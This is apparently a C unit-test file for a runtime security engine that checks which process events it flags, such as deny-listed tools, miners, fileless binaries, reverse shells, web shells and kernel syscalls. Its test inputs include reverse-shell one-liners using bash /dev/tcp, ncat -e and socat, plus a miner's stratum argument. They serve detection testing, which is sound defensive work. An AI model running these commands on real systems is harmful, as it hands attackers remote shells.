/* SPDX-License-Identifier: Apache-2.0 */
/* Programs: each detection, and a twin that means no harm. */
#include "judge.h"

static const char quiet[] = "{\"processes\":{\"effect\":\"alert\"}}";

static void
lists(void **state)
{
	static const struct judge_case cases[] = {
	    {"{\"processes\":{\"effect\":\"alert\",\"blacklist\":"
	     "[\"wget\",\"/opt/x\"]}}",
		EXEC("/usr/bin/wget", .args = ARGS("wget\0u")),
		"denied-process"},
	    {NULL, EXEC("/usr/bin/curl", .args = ARGS("curl\0u")), NULL},
	    {NULL, EXEC("/opt/x", .args = ARGS("x")), "denied-process"},
	    {NULL, EXEC("/usr/bin/x", .args = ARGS("x")), NULL},
	    /* Under another name: the applet, a script, a loader's program. */
	    {NULL, EXEC("/bin/busybox", .args = ARGS("wget\0u")),
		"denied-process"},
	    {NULL, EXEC("/bin/busybox", .args = ARGS("busybox\0wget\0u")),
		"denied-process"},
	    {NULL, EXEC("/bin/busybox", .args = ARGS("sh\0-c\0true")), NULL},
	    {NULL,
		EXEC("/usr/bin/dash", .script = STR("/opt/x"),
		    .args = ARGS("/bin/sh\0/opt/x")),
		"denied-process"},
	    {NULL, EXEC("/usr/bin/dash", .args = ARGS("sh\0-x\0/opt/x\0a")),
		"denied-process"},
	    {NULL, EXEC("/usr/bin/dash", .args = ARGS("sh\0-c\0/opt/x")), NULL},
	    {NULL,
		EXEC("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
		    .args = ARGS("ld.so\0--library-path\0/lib\0/opt/x")),
		"denied-process"},
	    {"{\"processes\":{\"effect\":\"alert\",\"whitelist\":"
	     "[\"nginx\",\"/bin/sh\",\"/entry.sh\",\"/bin/busybox\","
	     "\"ld-linux-x86-64.so.2\"],\"skipModified\":true}}",
		EXEC("/usr/sbin/nginx", .args = ARGS("nginx")), NULL},
	    {NULL, EXEC("/usr/bin/id", .args = ARGS("nginx")),
		"not-allowed-process"},
	    {NULL, EXEC("/bin/sh", .args = ARGS("sh")), NULL},
	    {NULL, EXEC("/usr/local/bin/sh", .args = ARGS("/bin/sh")),
		"not-allowed-process"},
	    {NULL,
		EXEC("/usr/bin/env", .script = STR("/entry.sh"),
		    .args = ARGS("env\0/entry.sh")),
		NULL},
	    {NULL,
		EXEC("/usr/bin/env", .script = STR("/tmp/nginx"),
		    .args = ARGS("env\0/tmp/nginx")),
		"not-allowed-process"},
	    {NULL, EXEC("/bin/busybox", .args = ARGS("vi")), NULL},
	    {NULL,
		EXEC("/lib64/ld-linux-x86-64.so.2",
		    .args = ARGS("ld.so\0/tmp/evil")),
		"not-allowed-process"},
	    {NULL,
		EXEC("/lib64/ld-linux-x86-64.so.2",
		    .args = ARGS("ld.so\0/usr/sbin/nginx")),
		NULL},
	};

	(void)state;
	JUDGE(cases);
}

static void
rules(void **state)
{
	static const char policy[] =
	    "{\"name\":\"p\",\"processes\":{\"effect\":\"prevent\","
	    "\"skipModified\":true,\"whitelist\":[\"a\"],\"rules\":["
	    "{\"path\":\"/bin/ok\",\"parent\":\"init\",\"effect\":\"allow\"},"
	    "{\"name\":\"root\",\"uid\":0},"
	    "{\"title\":\"from cron\",\"fromSource\":\"cron\",\"effect\":"
	    "\"alert\"},"
	    "{\"sha256\":\"00112233445566778899aabbccddeeff"
	    "00112233445566778899aabbccddeeff\",\"effect\":\"allow\"},"
	    "{\"name\":\"curl\",\"args\":\"(^| )-o +/tmp\"}]}}";
	static const struct judge_case cases[] = {
	    {policy, EXEC("/bin/ok", .parent = STR("/sbin/init")), NULL},
	    {NULL, EXEC("/bin/ok"), "not-allowed-process"},
	    {NULL, EXEC("/x/ok", .parent = STR("/sbin/init")),
		"not-allowed-process"},
	    {NULL, EXEC("/bin/root", .uid = 0), "process-rule"},
	    {NULL, EXEC("/bin/root", .uid = 5), "not-allowed-process"},
	    {NULL, EXEC("/bin/a", .parent = STR("/usr/sbin/cron")),
		"process-rule"},
	    {NULL,
		EXEC("/bin/a",
		    .ancestors = {STR("/bin/sh"), STR("/usr/sbin/cron")},
		    .n_ancestors = 2),
		"process-rule"},
	    {NULL, EXEC("/bin/a"), NULL},
	    {NULL,
		EXEC("/x/y", .sha256 = STR("00112233445566778899aabbccddeeff"
					   "00112233445566778899aabbccddeeff")),
		NULL},
	    {"{\"processes\":{\"rules\":[{\"name\":\"curl\",\"args\":"
	     "\"(^| )-o +/tmp\",\"effect\":\"alert\"}]}}",
		EXEC("/usr/bin/curl", .args = ARGS("curl\0-o\0/tmp/x\0u")),
		"process-rule"},
	    {NULL, EXEC("/usr/bin/curl", .args = ARGS("curl\0-O\0u")), NULL},
	};
	struct event ev = EXEC("/bin/a", .parent = STR("/usr/sbin/cron"));
	struct judge j;

	(void)state;
	JUDGE(cases);
	judge_open(&j, policy);
	judge_ask(&j, &ev);
	assert_true(str_eqz(ev.rule_name, "from cron"));
	assert_int_equal(ev.action, EVENT_ALERT);
	judge_close(&j);
}

static void
facts(void **state)
{
	static const struct judge_case cases[] = {
	    {quiet, EXEC("/usr/bin/x", .facts = EXE_MODIFIED),
		"modified-process"},
	    {NULL, EXEC("/usr/bin/x"), NULL},
	    {NULL, EXEC("/data/x", .facts = EXE_MODIFIED | EXE_VOLUME), NULL},
	    {NULL, EXEC("/data/x", .facts = EXE_VOLUME), NULL},
	    {NULL, EXEC("/usr/bin/x", .facts = EXE_ALTERED), "altered-binary"},
	    {NULL, EXEC("/memfd:x (deleted)", .facts = EXE_MEMFD | EXE_TMPFS),
		"fileless-process"},
	    {NULL, EXEC("/tmp/x (deleted)", .facts = EXE_DELETED),
		"fileless-process"},
	    {NULL, EXEC("/dev/shm/x", .facts = EXE_TMPFS | EXE_MODIFIED),
		"tmpfs-process"},
	    {NULL, EXEC("/usr/bin/sudo", .facts = EXE_SETUID, .uid = 1000),
		"setuid-process"},
	    {NULL, EXEC("/usr/bin/sudo", .facts = EXE_SETUID, .uid = 0), NULL},
	    {"{\"processes\":{\"effect\":\"alert\",\"skipModified\":true}}",
		EXEC("/usr/bin/x", .facts = EXE_MODIFIED), NULL},
	    {"{\"detections\":{\"loader-exec\":\"alert\"}}",
		EXEC("/lib/ld-musl-x86_64.so.1",
		    .args = ARGS("ld\0--preload\0/x\0/tmp/e")),
		"loader-exec"},
	    {NULL,
		EXEC("/lib64/ld-linux-x86-64.so.2",
		    .args = ARGS("ld\0--verify\0/bin/ls")),
		NULL},
	    {"{\"filesystem\":{\"effect\":\"alert\",\"suspiciousELFHeaders\":"
	     "true}}",
		EXEC("/x", .facts = EXE_BAD_ELF), "suspicious-elf"},
	    {NULL, EXEC("/x"), NULL},
	    {NULL, EXEC("/x", .facts = EXE_PACKED | EXE_MODIFIED),
		"packed-binary"},
	    {NULL, EXEC("/x", .facts = EXE_PACKED), NULL},
	    {"{\"filesystem\":{\"effect\":\"alert\",\"skipEncryptedBinaries\":"
	     "true}}",
		EXEC("/x", .facts = EXE_PACKED | EXE_MODIFIED | EXE_BAD_ELF),
		NULL},
	};

	(void)state;
	JUDGE(cases);
}

static void
miners(void **state)
{
	static const struct judge_case cases[] = {
	    {"{\"processes\":{\"effect\":\"alert\",\"checkCryptoMiners\":"
	     "true}}",
		EXEC("/opt/xmrig", .args = ARGS("xmrig")), "crypto-miner"},
	    {NULL, EXEC("/opt/kdevtmpfsi"), "crypto-miner"},
	    {NULL,
		EXEC("/opt/httpd",
		    .args = ARGS("httpd\0-o\0stratum+tcp://p:3333")),
		"crypto-miner"},
	    {NULL, EXEC("/opt/httpd", .args = ARGS("httpd\0--donate-level=1")),
		"crypto-miner"},
	    {NULL, EXEC("/bin/busybox", .args = ARGS("xmrig")), "crypto-miner"},
	    {NULL, EXEC("/usr/bin/miner-news", .args = ARGS("miner-news")),
		NULL},
	    {NULL, EXEC("/usr/bin/grep", .args = ARGS("grep\0stratum+tcp://")),
		NULL},
	    {quiet, EXEC("/opt/xmrig", .args = ARGS("xmrig")), NULL},
	};

	(void)state;
	JUDGE(cases);
}

/* What became a shell's while another is one already. */
static void
shells_that_turn(void **state)
{
	static const struct judge_case cases[] = {
	    {quiet,
		{.name = EVENT_STDIO,
		    .by = {.pid = 7,
			.exe = STR("/usr/bin/bash"),
			.facts = EXE_STDIO_SOCKET},
		    .addr = {4, {1, 2, 3, 4}},
		    .port = 9},
		"reverse-shell"},
	    {NULL,
		{.name = EVENT_STDIO,
		    .by = {.pid = 7,
			.exe = STR("/bin/busybox"),
			.args = ARGS("ash\0-c\0exec"),
			.facts = EXE_STDIO_SOCKET},
		    .addr = {4, {1, 2, 3, 4}},
		    .port = 9},
		"reverse-shell"},
	    {NULL,
		{.name = EVENT_STDIO,
		    .by = {.pid = 7, .exe = STR("/usr/bin/bash")},
		    .addr = {4, {1, 2, 3, 4}},
		    .port = 9},
		NULL},
	    {NULL,
		{.name = EVENT_STDIO,
		    .by = {.pid = 7,
			.exe = STR("/usr/sbin/inetd"),
			.facts = EXE_STDIO_SOCKET},
		    .addr = {4, {1, 2, 3, 4}},
		    .port = 9},
		NULL},
	    {NULL,
		{.name = EVENT_STDIO,
		    .by = {.pid = 7,
			.exe = STR("/usr/bin/bash"),
			.facts = EXE_STDIO_SOCKET}},
		NULL},
	};

	(void)state;
	JUDGE(cases);
}

static void
shells(void **state)
{
	static const struct judge_case cases[] = {
	    {quiet,
		EXEC("/usr/bin/bash", .args = ARGS("bash\0-i"),
		    .facts = EXE_STDIO_SOCKET),
		"reverse-shell"},
	    {NULL, EXEC("/usr/bin/bash", .args = ARGS("bash\0-i")), NULL},
	    {NULL,
		EXEC("/bin/busybox", .args = ARGS("ash"),
		    .facts = EXE_STDIO_SOCKET),
		"reverse-shell"},
	    {NULL,
		EXEC("/usr/sbin/in.ftpd", .args = ARGS("in.ftpd"),
		    .facts = EXE_STDIO_SOCKET),
		NULL},
	    {NULL,
		EXEC("/bin/bash",
		    .args =
			ARGS("bash\0-c\0bash -i >& /dev/tcp/1.2.3.4/9 0>&1")),
		"reverse-shell"},
	    {NULL,
		EXEC("/bin/bash",
		    .args = ARGS("bash\0-c\0echo > /dev/tcp/db/5432")),
		NULL},
	    {NULL, EXEC("/bin/ncat", .args = ARGS("ncat\0-e\0/bin/sh\0h\09")),
		"reverse-shell"},
	    {NULL,
		EXEC("/usr/bin/socat",
		    .args = ARGS("socat\0TCP:h:9\0EXEC:/bin/sh,pty")),
		"reverse-shell"},
	    {NULL,
		EXEC("/usr/bin/other",
		    .args = ARGS("other\0TCP:h:9\0EXEC:/bin/sh,pty")),
		NULL},
	    {"{\"processes\":{\"effect\":\"alert\",\"skipReverseShell\":"
	     "true}}",
		EXEC("/usr/bin/bash", .args = ARGS("bash\0-i"),
		    .facts = EXE_STDIO_SOCKET),
		NULL},
	    {"{\"processes\":{\"effect\":\"alert\",\"checkParentChild\":"
	     "true}}",
		EXEC("/bin/sh", .args = ARGS("sh\0-c\0id"),
		    .parent = STR("/usr/sbin/nginx")),
		"web-shell"},
	    {NULL,
		EXEC("/usr/sbin/nginx", .args = ARGS("nginx"),
		    .parent = STR("/usr/sbin/nginx")),
		NULL},
	    {NULL,
		EXEC("/bin/sh", .args = ARGS("sh\0-c\0id"),
		    .parent = STR("/usr/bin/make")),
		NULL},
	};

	(void)state;
	JUDGE(cases);
}

static void
tools(void **state)
{
	static const struct judge_case cases[] = {
	    {quiet,
		EXEC("/usr/bin/apt-get",
		    .args = ARGS("apt-get\0-y\0install\0nmap")),
		"package-manager"},
	    {NULL,
		EXEC("/usr/bin/apt-get",
		    .args = ARGS("apt-get\0download\0nmap")),
		NULL},
	    {NULL, EXEC("/usr/bin/dpkg", .args = ARGS("dpkg\0-i\0x.deb")),
		"package-manager"},
	    {NULL,
		EXEC("/usr/bin/dpkg",
		    .args = ARGS("dpkg\0--print-foreign-architectures")),
		NULL},
	    {NULL, EXEC("/sbin/apk", .args = ARGS("apk\0add\0curl")),
		"package-manager"},
	    {NULL, EXEC("/sbin/apk", .args = ARGS("apk\0info")), NULL},
	    {NULL,
		EXEC("/usr/bin/python3.11", .script = STR("/usr/bin/pip"),
		    .args = ARGS("python3\0/usr/bin/pip\0install\0x")),
		"package-manager"},
	    {NULL,
		EXEC("/usr/bin/python3.11",
		    .args = ARGS("python3\0-m\0pip\0install\0x")),
		"package-manager"},
	    {NULL,
		EXEC("/usr/bin/python3.11",
		    .args = ARGS("python3\0install.py\0install")),
		NULL},
	    {NULL, EXEC("/usr/bin/nmap", .args = ARGS("nmap\0h")),
		"network-tool"},
	    {NULL, EXEC("/bin/busybox", .args = ARGS("nc\0h\09")),
		"network-tool"},
	    {NULL, EXEC("/usr/bin/curl", .args = ARGS("curl\0-f\0http://h")),
		NULL},
	    {"{\"processes\":{\"effect\":\"alert\",\"checkLateralMovement\":"
	     "true}}",
		EXEC("/usr/bin/ssh", .args = ARGS("ssh\0h")),
		"lateral-movement"},
	    {NULL, EXEC("/usr/bin/kubectl", .args = ARGS("kubectl\0get")),
		"lateral-movement"},
	    {NULL, EXEC("/usr/sbin/sshd", .args = ARGS("sshd\0-D")), NULL},
	};

	(void)state;
	JUDGE(cases);
}

static void
kernel(void **state)
{
	static const struct judge_case cases[] = {
	    {quiet, DID(PTRACE, .target = 9), "ptrace"},
	    {NULL, DID(PTRACE, .target = 7), NULL},
	    {NULL, DID(SIGNAL, .target = 1), "defender-attack"},
	    {NULL, DID(MOUNT, .syscall = "mount"), "mount"},
	    {NULL, DID(NAMESPACE, .syscall = "unshare"), "namespace"},
	    {NULL, DID(MODULE, .syscall = "init_module"), "kernel-module"},
	    {NULL, DID(BPF, .syscall = "bpf"), "bpf"},
	    {NULL, DID(IO_URING), "io-uring"},
	    {NULL, DID(ABI), "foreign-abi"},
	    {NULL, DID(ENTERED), "entered-process"},
	    {"{\"processes\":{\"effect\":\"alert\",\"blacklist\":[\"app\"]}}",
		DID(ENTERED), "denied-process"},
	    {"{\"processes\":{\"effect\":\"alert\",\"blacklist\":[\"app\"]},"
	     "\"skipExecSessions\":true}",
		DID(ENTERED), "denied-process"},
	    {"{\"processes\":{\"effect\":\"alert\",\"whitelist\":[\"sh\"]}}",
		DID(ENTERED), "not-allowed-process"},
	    {"{\"processes\":{\"effect\":\"alert\",\"whitelist\":[\"app\"]}}",
		DID(ENTERED), "entered-process"},
	    {"{\"processes\":{\"effect\":\"alert\",\"blockAllBinaries\":"
	     "true}}",
		DID(ENTERED), "any-process"},
	    {"{\"processes\":{\"effect\":\"alert\",\"whitelist\":[\"sh\"],"
	     "\"rules\":[{\"name\":\"app\",\"effect\":\"allow\"}]}}",
		DID(ENTERED), "entered-process"},
	    {"{\"processes\":{\"effect\":\"alert\",\"rules\":[{\"name\":"
	     "\"app\",\"effect\":\"block\"}]}}",
		DID(ENTERED), "process-rule"},
	    {quiet, {.name = EVENT_SETUID, .by = {.uid = 33, .exe = STR("/x")}},
		"setuid-process"},
	    {NULL, {.name = EVENT_SETUID, .by = {.uid = 0, .exe = STR("/x")}},
		NULL},
	    {"{\"processes\":{\"effect\":\"alert\"},\"skipExecSessions\":"
	     "true}",
		DID(ENTERED), NULL},
	    {"{\"processes\":{\"effect\":\"disable\"}}",
		DID(MODULE, .syscall = "init_module"), NULL},
	};

	(void)state;
	JUDGE(cases);
}

static void
only_the_main_process(void **state)
{
	struct event main_ = EXEC("/entry.sh"), again = EXEC("/usr/bin/app"),
		     other = EXEC("/usr/bin/id"), fine = EXEC("/usr/bin/ok");
	struct judge j;

	(void)state;
	other.by.pid = fine.by.pid = 8;
	judge_open(&j, "{\"processes\":{\"effect\":\"prevent\","
		       "\"blockAllBinaries\":true,\"whitelist\":[]}}");
	judge_ask(&j, &main_);
	assert_int_equal(main_.action, EVENT_ALLOWED);
	judge_ask(&j, &again);
	assert_int_equal(again.action, EVENT_ALLOWED);
	judge_ask(&j, &other);
	assert_int_equal(other.action, EVENT_PREVENT);
	assert_true(str_eqz(other.rule_id, "any-process"));
	judge_close(&j);
}

/* By name alone: what refuses does, what may be wrong waits. */
static void
attempts(void **state)
{
	static const char prevent[] =
	    "{\"processes\":{\"effect\":\"prevent\",\"blacklist\":[\"nc\"],"
	    "\"whitelist\":[\"nc\",\"mawk\"]}}";
	struct event ev = EXEC("/bin/nc", .args = ARGS("nc"));
	struct judge j;

	(void)state;
	ev.attempt = true;
	judge_open(&j, prevent);
	judge_ask(&j, &ev);
	assert_int_equal(ev.action, EVENT_PREVENT);
	assert_true(ev.enforced);
	/* A link to mawk. */
	ev.by.exe = STR("/usr/bin/awk");
	ev.by.args = ARGS("awk");
	judge_ask(&j, &ev);
	assert_int_equal(ev.action, EVENT_ALLOWED);
	ev.attempt = false;
	judge_ask(&j, &ev);
	assert_int_equal(ev.action, EVENT_PREVENT);
	judge_close(&j);
	/* What only alerts is told once, when it is certain. */
	judge_open(&j, "{\"processes\":{\"effect\":\"alert\",\"blacklist\":"
		       "[\"nc\"]}}");
	ev = (struct event)EXEC("/bin/nc", .args = ARGS("nc"));
	ev.attempt = true;
	judge_ask(&j, &ev);
	assert_int_equal(ev.action, EVENT_ALLOWED);
	ev.attempt = false;
	judge_ask(&j, &ev);
	assert_int_equal(ev.action, EVENT_ALERT);
	judge_close(&j);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(lists),
	    cmocka_unit_test(rules),
	    cmocka_unit_test(facts),
	    cmocka_unit_test(miners),
	    cmocka_unit_test(shells),
	    cmocka_unit_test(shells_that_turn),
	    cmocka_unit_test(tools),
	    cmocka_unit_test(kernel),
	    cmocka_unit_test(only_the_main_process),
	    cmocka_unit_test(attempts),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
